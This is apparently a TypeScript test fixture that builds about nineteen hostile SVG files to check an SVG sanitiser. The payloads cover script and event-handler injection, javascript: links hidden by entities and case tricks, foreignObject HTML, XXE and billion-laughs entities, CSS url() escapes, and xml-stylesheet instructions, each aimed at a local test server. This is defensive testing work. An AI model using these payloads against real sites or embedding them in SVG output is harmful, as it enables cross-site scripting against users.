/**
 * Hostile SVG screens: each one tries to run `window.__pwned = N` (or fetch something under /evil/) in the
 * operator's browser, and each carries the same harmless part — a `<rect tag="SAFE" id="safe-N">` and a
 * `<text tag="SAFETEXT">` — that must still render and be painted. All are well-formed XML, so the sanitiser
 * has to take them apart rather than reject them whole.
 */
export interface HostileCase {
  name: string;
  svg: string;
}

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export function hostileCases(port: number): HostileCase[] {
  const evil = `http://127.0.0.1:${port}/evil`;
  const svgWithScript = (n: number) => `<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=${n}"><script>top.__pwned=${n}</script></svg>`;
  const list: [string, (n: number) => string, string?][] = [
    ['script element', (n) => `<script>window.__pwned=${n}</script><script type="text/ecmascript"><![CDATA[window.__pwned=${n}]]></script>`],
    ['script by reference', (n) => `<script href="data:text/javascript,window.__pwned=${n}"/><script xlink:href="${evil}/s.js"/>`],
    [
      'event handler attributes, any case',
      (n) =>
        `<rect id="h-${n}" x="60" y="10" width="30" height="30" onclick="window.__pwned=${n}" ONMOUSEOVER="window.__pwned=${n}" OnMouseDown="window.__pwned=${n}" onfocusin="window.__pwned=${n}" tabindex="0"/><g onmouseenter="window.__pwned=${n}"><circle cx="120" cy="25" r="12" onpointerdown="window.__pwned=${n}"/></g>`,
      ` onload="window.__pwned=1"`,
    ],
    [
      'animate / set of handlers and links',
      (n) =>
        `<rect x="60" y="10" width="20" height="20"><set attributeName="onclick" to="window.__pwned=${n}" begin="0s"/><set attributeName="onmouseover" to="window.__pwned=${n}" begin="0s"/></rect>` +
        `<a id="anim-a-${n}"><animate attributeName="href" values="javascript:window.__pwned=${n}" begin="0s" dur="10s"/><rect x="90" y="10" width="20" height="20"/></a>` +
        `<animate attributeName="x" dur="1s" begin="0s" onbegin="window.__pwned=${n}"/><animateTransform attributeName="transform" type="rotate" from="0" to="10" dur="1s" onend="window.__pwned=${n}"/><discard begin="0s" onbegin="window.__pwned=${n}"/>`,
    ],
    [
      'use of external files',
      (n) =>
        `<use href="${evil}/use.svg#p" x="60" y="10"/><use xlink:href="${evil}/use2.svg#p"/><use href="data:image/svg+xml;base64,${b64(svgWithScript(n))}#x"/>`,
    ],
    [
      'foreignObject with HTML',
      (n) =>
        `<foreignObject x="60" y="0" width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${evil}/x.png" onerror="window.__pwned=${n}"/><iframe src="javascript:parent.__pwned=${n}"></iframe><div onmouseover="window.__pwned=${n}">hover</div></body></foreignObject>`,
    ],
    [
      'javascript: links',
      (n) =>
        `<a href="javascript:window.__pwned=${n}"><rect tag="LINK1" x="60" y="10" width="30" height="30"/></a><a xlink:href="&#106;avascript&#58;window.__pwned=${n}"><rect tag="LINK2" x="100" y="10" width="30" height="30"/></a><a href=" JaVaScRiPt:window.__pwned=${n}" target="_top"><text x="140" y="30">link</text></a>`,
    ],
    ['entities (internal, external, nested)', () => `<text x="60" y="30">&x;&ext;&lol3;</text>`, undefined],
    [
      'style with url(javascript:) and imports',
      (n) =>
        `<style>@import url(${evil}/a.css); rect{fill:url(javascript:window.__pwned=${n})} .b{background:url("${evil}/bg.png")} .c{behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml#b)}</style>` +
        `<rect class="b c" x="60" y="10" width="30" height="30" style="fill:url(javascript:window.__pwned=${n});background-image:url(${evil}/i.png);width:expression(window.__pwned=${n})"/>`,
    ],
    [
      // issue 10 item 7: a style sheet aimed at the page around the drawing (scoped to the drawing now)
      'style aimed at the page',
      () =>
        `<style>body, html, md-toolbar, md-content, .mara-bar { display: none !important; background: #ff00ff !important } :root { --md-primary: red } ~ * { display: none } ` +
        `svg { position: fixed; inset: 0; width: 100vw; height: 100vh; z-index: 99999 } @font-face { font-family: sans-serif; src: local(Wingdings) } @keyframes md-spin { from { opacity: 0 } }</style>`,
      ` style="position:fixed;left:0;top:0;width:100vw;height:100vh;z-index:99999"`,
    ],
    [
      'iframe, embed and object',
      (n) =>
        `<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.__pwned=${n}"></iframe><embed src="data:text/html,${esc(`<script>parent.__pwned=${n}</script>`)}"/>` +
        `<object data="data:text/html;base64,${b64(`<script>parent.__pwned=${n}</script>`)}" type="text/html"/><object data="${evil}/o.svg" type="image/svg+xml"/>`,
    ],
    [
      'data: SVG and remote images',
      (n) =>
        `<image href="data:image/svg+xml;base64,${b64(svgWithScript(n))}" x="60" y="0" width="40" height="40"/><image xlink:href="data:image/svg+xml,${esc(encodeURIComponent(svgWithScript(n)))}" width="10" height="10"/>` +
        `<image href="${evil}/remote.png" width="10" height="10"/><filter id="f-${n}"><feImage href="${evil}/fe.svg"/></filter>`,
    ],
    [
      'SVG Tiny handler / listener',
      (n) =>
        `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="application/ecmascript">window.__pwned=${n}</handler><listener event="click" handler="#h"/>`,
    ],
    [
      'scripts in other namespaces',
      (n) =>
        `<html:script xmlns:html="http://www.w3.org/1999/xhtml">window.__pwned=${n}</html:script><x:script xmlns:x="urn:evil">window.__pwned=${n}</x:script><svg:script xmlns:svg="http://www.w3.org/2000/svg">window.__pwned=${n}</svg:script>`,
    ],
    [
      'nested svg with onload',
      (n) =>
        `<svg x="60" y="0" width="50" height="50" onload="window.__pwned=${n}"><svg onload="window.__pwned=${n}"><rect width="10" height="10"/></svg></svg>`,
    ],
    [
      'attribute and tag value injection',
      (n) =>
        `<rect tag="X&quot; onclick=&quot;window.__pwned=${n}" jump-to="&lt;img src=x onerror=window.__pwned=${n}&gt;" x="60" y="10" width="20" height="20"/>` +
        `<text x="90" y="30" id="&quot;&gt;&lt;script&gt;window.__pwned=${n}&lt;/script&gt;">&lt;script&gt;window.__pwned=${n}&lt;/script&gt;</text>`,
    ],
    ['xml-stylesheet processing instructions', () => `<rect x="60" y="10" width="20" height="20"/>`],
    [
      'namespaced event attributes and xml:base',
      (n) =>
        `<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:onclick="window.__pwned=${n}" xml:base="javascript:window.__pwned=${n}//"><a href="#safe-${n}" xlink:onclick="window.__pwned=${n}"><rect x="60" y="10" width="20" height="20"/></a></g>`,
    ],
    [
      'CSS escapes and comments hiding url()',
      (n) =>
        `<style>rect{fill:u\\72l(${evil}/esc.png)} /* */ .q{background:u/**/rl(${evil}/c.png)}</style><rect x="60" y="10" width="20" height="20" style="fill:\\75 rl(${evil}/e2.png);stroke:ur\\l(javascript:window.__pwned=${n})"/>`,
    ],
  ];
  return list.map(([name, body, rootExtra], i) => {
    const n = i + 1;
    let prolog = '';
    if (name.startsWith('entities'))
      prolog =
        `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;window.__pwned=${n}&#60;/script&#62;"><!ENTITY ext SYSTEM "${evil}/ent.xml">` +
        `<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n`;
    if (name.startsWith('xml-stylesheet'))
      prolog = `<?xml-stylesheet type="text/xsl" href="${evil}/x.xsl"?>\n<?xml-stylesheet href="javascript:window.__pwned=${n}" type="text/css"?>\n`;
    const svg =
      `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="60" viewBox="0 0 240 60"${rootExtra ?? ''}>` +
      `<rect width="240" height="60" style="fill:#202020"/>` +
      `<rect tag="SAFE" id="safe-${n}" x="10" y="10" width="40" height="40" style="fill:#333333;stroke:#888888"/>` +
      `<text tag="SAFETEXT" x="200" y="35" style="fill:#ffffff;font-size:14px">${n}</text>` +
      body(n) +
      `</svg>`;
    return { name: `${n}. ${name}`, svg };
  });
}
